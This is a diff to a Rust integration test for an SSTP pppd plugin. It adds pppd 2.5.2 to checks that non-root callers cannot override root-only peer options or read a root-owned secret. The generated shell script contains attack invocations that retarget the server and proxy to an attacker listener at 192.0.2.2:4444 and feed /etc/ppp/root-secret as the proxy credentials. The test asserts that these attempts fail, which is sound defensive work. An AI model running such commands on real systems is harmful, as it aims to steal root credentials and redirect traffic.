@@ -1,7 +1,8 @@
 //! pppd's privilege model for the plugin's options, with the REAL setuid-root pppd 2.4.9 run by
 //! a non-root user in group `dip` (uid `nobody` + supplementary group `dip`), in the UML test bed.
 //!
-//! A root-owned peers file `/etc/ppp/peers/work` loads the plugin and points at sstpd. The
+//! The option checks run against pppd 2.5.2 too (a setuid-root copy of the one built by
+//! `cargo xtask pppd25`). A root-owned peers file `/etc/ppp/peers/work` loads the plugin and points at sstpd. The
 //! caller may use that peer (the session comes up), may tune what root left open, but cannot
 //! change where it connects, what it trusts or the proxy (pppd: "... requires root privilege"),
 //! cannot override what root fixed ("... cannot be overridden"), and cannot make the plugin read
@@ -34,12 +35,14 @@ const ROOT_ONLY: &[(&str, &str)] = &[
 /// The root-owned secret the caller tries to make the plugin read.
 const ROOT_SECRET: &str = "admin:TopSecret-Root-Only";
 
-fn script(so: &Path, server: &Path) -> String {
+fn script(so: &Path, so25: &Path, server: &Path) -> String {
     let mut s = format!(
         r#"
 . /run/bed/sstp-scenario.sh
 SO={so}
 SERVER={server}
+SO25={so25}
+PPPD25={pppd25}
 PPPD=/usr/sbin/pppd
 sc_net_up || exit 1
 sc_pki || exit 1
@@ -71,12 +74,25 @@ noipdefault
 lcp-echo-interval 0
 nodetach
 debug"
-printf '%s\nsstp-server %s:%s\nlogfile %s\n' "$peer_common" "$SC_SERVER_NAME" "$SC_PORT" \
-    "$SC_OUT/work.log" >/etc/ppp/peers/work
-printf '%s\nsstp-server %s:%s\nsstp-proxy http://%s:3128\n' "$peer_common" "$SC_SERVER_NAME" \
-    "$SC_PORT" "$SC_SERVER_V4" >/etc/ppp/peers/work-proxy
-chown root:dip /etc/ppp/peers/work /etc/ppp/peers/work-proxy
-chmod 640 /etc/ppp/peers/work /etc/ppp/peers/work-proxy
+# write_peers <peers dir> <plugin>: the two root-owned peers files (root:dip 0640, as Debian's).
+write_peers() {{
+    d=$1; so=$2
+    printf '%s\nsstp-server %s:%s\nlogfile %s\n' "$(echo "$peer_common" | sed "s|^plugin .*|plugin $so|")" \
+        "$SC_SERVER_NAME" "$SC_PORT" "$SC_OUT/work.log" >"$d/work"
+    printf '%s\nsstp-server %s:%s\nsstp-proxy http://%s:3128\n' \
+        "$(echo "$peer_common" | sed "s|^plugin .*|plugin $so|")" "$SC_SERVER_NAME" "$SC_PORT" \
+        "$SC_SERVER_V4" >"$d/work-proxy"
+    chown root:dip "$d/work" "$d/work-proxy"
+    chmod 640 "$d/work" "$d/work-proxy"
+}}
+write_peers /etc/ppp/peers "$SO"
+# pppd 2.5.2 (built with its own prefix): a setuid-root copy in tmpfs, its etc/ppp in tmpfs.
+mkdir -p /tmp/p25 && cp "$PPPD25" /tmp/p25/pppd && chown root:dip /tmp/p25/pppd && chmod 4754 /tmp/p25/pppd
+etc25=$(dirname "$(dirname "$PPPD25")")/etc/ppp
+mount -t tmpfs -o mode=755 tmpfs "$etc25" || exit 1
+mkdir -p "$etc25/peers" && chown root:dip "$etc25/peers" && chmod 2750 "$etc25/peers"
+: >"$etc25/options"
+write_peers "$etc25/peers" "$SO25"
 printf '%s\n' '{secret}' >/etc/ppp/root-secret
 chmod 600 /etc/ppp/root-secret
 printf 'nobody-user\nnobody-pass\n' >/tmp/nobody-cred
@@ -101,23 +117,34 @@ printf 'fd-user\nfd-pass\n' >"$SC_WORK/fd5"
 "#,
         so = testbed::shell_quote(&so.to_string_lossy()),
         server = testbed::shell_quote(&server.to_string_lossy()),
+        so25 = testbed::shell_quote(&so25.to_string_lossy()),
+        pppd25 = testbed::shell_quote(&Pppd::V252.binary().to_string_lossy()),
         secret = ROOT_SECRET,
     );
-    for (i, (opt, val)) in ROOT_ONLY.iter().enumerate() {
+    // The option checks, once per pppd version (tags of 2.5.2 start with "v25_").
+    for (pfx, pppd) in [("", "/usr/sbin/pppd"), ("v25_", "/tmp/p25/pppd")] {
+        s.push_str(&format!("PPPD={pppd}\n"));
+        for (i, (opt, val)) in ROOT_ONLY.iter().enumerate() {
+            s.push_str(&format!(
+                "try {pfx}priv{i} nobody call work {opt} {val} dryrun\n\
+                 try {pfx}root{i} root call work-proxy {opt} {val} dryrun\n"
+            ));
+        }
         s.push_str(&format!(
-            "try priv{i} nobody call work {opt} {val} dryrun\n\
-             try root{i} root call work-proxy {opt} {val} dryrun\n"
+            r#"
+# Fixed by root: the caller may set what root left open, not change what root set.
+try {pfx}fixed nobody call work sstp-log-level 4 dryrun
+try {pfx}open nobody call work sstp-connect-timeout 5 sstp-http-timeout 9 dryrun
+# Files: opened with the caller's rights.
+try {pfx}rootfile nobody call work-proxy sstp-proxy-auth-file /etc/ppp/root-secret dryrun
+try {pfx}ownfile nobody call work-proxy sstp-proxy-auth-file /tmp/nobody-cred dryrun
+try {pfx}rootfile_root root call work-proxy sstp-proxy-auth-file /etc/ppp/root-secret dryrun
+"#
         ));
     }
     s.push_str(
         r#"
-# Fixed by root: the caller may set what root left open, not change what root set.
-try fixed nobody call work sstp-log-level 4 dryrun
-try open nobody call work sstp-connect-timeout 5 sstp-http-timeout 9 dryrun
-# Files: opened with the caller's rights.
-try rootfile nobody call work-proxy sstp-proxy-auth-file /etc/ppp/root-secret dryrun
-try ownfile nobody call work-proxy sstp-proxy-auth-file /tmp/nobody-cred dryrun
-try rootfile_root root call work-proxy sstp-proxy-auth-file /etc/ppp/root-secret dryrun
+PPPD=/usr/sbin/pppd
 # The attacks as reported, without dryrun: nothing may reach the attacker's listener.
 try attack_server nobody call work sstp-server 192.0.2.2:4444 sstp-cert-pin "sha256:$ATTACKER_PIN"
 try attack_proxy nobody call work sstp-proxy http://192.0.2.2:4444 sstp-proxy-auth-file /etc/ppp/root-secret
@@ -156,8 +183,11 @@ fn non_root_callers_cannot_retarget_weaken_or_read_through_a_root_peer() {
         return;
     }
     let so = plugin::build_plugin(Pppd::V249, true, "sstp-rs-privilege.so").expect("plugin");
+    plugin::ensure_pppd25().expect("pppd 2.5.2");
+    let so25 = plugin::build_plugin(Pppd::V252, true, "sstp-rs-privilege.so").expect("plugin");
     let server = plugin::build_test_server().expect("sstp-test-server");
-    let Some(run) = scenario::run_script(&script(&so, &server), Duration::from_secs(300)) else {
+    let script = script(&so, &so25, &server);
+    let Some(run) = scenario::run_script(&script, Duration::from_secs(300)) else {
         return;
     };
     let facts = parse_facts(&run.output);
@@ -188,26 +218,34 @@ fn non_root_callers_cannot_retarget_weaken_or_read_through_a_root_peer() {
             }
         }
     };
-    for (i, (opt, _)) in ROOT_ONLY.iter().enumerate() {
-        let refused = format!("using the {opt} option requires root privilege");
-        expect(&format!("priv{i}"), 2, &[refused.as_str()], &[]);
-        expect(&format!("root{i}"), 0, &[], &["requires root privilege"]);
+    for pfx in ["", "v25_"] {
+        for (i, (opt, _)) in ROOT_ONLY.iter().enumerate() {
+            let refused = format!("using the {opt} option requires root privilege");
+            expect(&format!("{pfx}priv{i}"), 2, &[refused.as_str()], &[]);
+            expect(
+                &format!("{pfx}root{i}"),
+                0,
+                &[],
+                &["requires root privilege"],
+            );
+        }
+        expect(
+            &format!("{pfx}fixed"),
+            2,
+            // pppd 2.5.2 prints a dangling pointer as the file's name; 2.4.9 names the file.
+            &["sstp-log-level option set in ", " cannot be overridden"],
+            &[],
+        );
+        expect(&format!("{pfx}open"), 0, &[], &["sstp-rs:"]);
+        expect(
+            &format!("{pfx}rootfile"),
+            2,
+            &["sstp-proxy-auth-file: /etc/ppp/root-secret: cannot open: Permission denied"],
+            &["TopSecret", "owned by", "mode 0", "admin"],
+        );
+        expect(&format!("{pfx}ownfile"), 0, &[], &["sstp-rs:"]);
+        expect(&format!("{pfx}rootfile_root"), 0, &[], &["sstp-rs:"]);
     }
-    expect(
-        "fixed",
-        2,
-        &["sstp-log-level option set in /etc/ppp/peers/work cannot be overridden"],
-        &[],
-    );
-    expect("open", 0, &[], &["sstp-rs:"]);
-    expect(
-        "rootfile",
-        2,
-        &["sstp-proxy-auth-file: /etc/ppp/root-secret: cannot open: Permission denied"],
-        &["TopSecret", "owned by", "mode 0", "admin"],
-    );
-    expect("ownfile", 0, &[], &["sstp-rs:"]);
-    expect("rootfile_root", 0, &[], &["sstp-rs:"]);
     expect(
         "attack_server",
         2,
@@ -220,6 +258,12 @@ fn non_root_callers_cannot_retarget_weaken_or_read_through_a_root_peer() {
         &["using the sstp-proxy option requires root privilege"],
         &["TopSecret"],
     );
+    expect(
+        "fixed",
+        2,
+        &["sstp-log-level option set in /etc/ppp/peers/work cannot be overridden"],
+        &[],
+    );
     assert!(problems.is_empty(), "{}\n\n{diag}", problems.join("\n"));
     assert_eq!(fact("attacker_contacted"), "0", "{diag}");
 
@@ -229,8 +273,8 @@ fn non_root_callers_cannot_retarget_weaken_or_read_through_a_root_peer() {
     assert_eq!(fact("session_euid"), "0", "{diag}");
     assert_eq!(fact("exit_session"), "5", "{}\n{diag}", out("session"));
     eprintln!(
-        "privilege: {} root-only options refused for uid nobody and accepted for root; \
-         guest command {:?}",
+        "privilege: {} root-only options refused for uid nobody and accepted for root \
+         (pppd 2.4.9 and 2.5.2); guest command {:?}",
         ROOT_ONLY.len(),
         run.command_time
     );
